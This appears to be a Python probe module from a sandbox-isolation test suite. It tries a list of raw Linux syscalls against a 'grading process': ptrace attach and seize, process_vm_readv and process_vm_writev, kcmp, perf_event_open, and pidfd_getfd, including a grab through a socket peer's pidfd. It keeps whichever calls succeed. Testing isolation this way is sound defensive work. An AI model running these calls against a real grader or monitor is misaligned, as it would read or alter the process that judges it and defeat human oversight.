"""ptrace, process_vm_readv, pidfd_getfd, kcmp and their kin, on the grading process."""

import ctypes
import os
import socket

from tools import call, channel, those_that_work


def attack(target):
    pid = target["victim"]
    own = ctypes.create_string_buffer(64)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(own), 64)
    return those_that_work(
        {
            "PTRACE_ATTACH": lambda: call(101, 117, 16, pid, 0, 0),
            "PTRACE_SEIZE": lambda: call(101, 117, 0x4206, pid, 0, 0),
            "PTRACE_TRACEME": lambda: call(101, 117, 0, 0, 0, 0),
            "process_vm_readv": lambda: call(310, 270, pid, vector, 1, vector, 1, 0),
            "process_vm_writev": lambda: call(311, 271, pid, vector, 1, vector, 1, 0),
            "kcmp": lambda: call(312, 272, os.getpid(), pid, 0, 0, 0),
            "pidfd_open": lambda: os.close(call(434, 434, pid, 0)),
            "pidfd_getfd": lambda: pidfd_getfd(pid),
            "the pidfd of the grader, by the channel": lambda: pidfd_getfd_of_peer(),
            "perf_event_open": lambda: call(298, 241, bytes(128), pid, -1, -1, 0),
            "process_madvise": lambda: call(440, 440, pid, vector, 1, 4, 0),
            "move_pages": lambda: call(279, 239, pid, 0, None, None, None, 0),
        }
    )


def pidfd_getfd(pid):
    return call(438, 438, call(434, 434, pid, 0), 0, 0)


def pidfd_getfd_of_peer():
    peer = channel().getsockopt(socket.SOL_SOCKET, 77)
    return call(438, 438, peer, 0, 0)
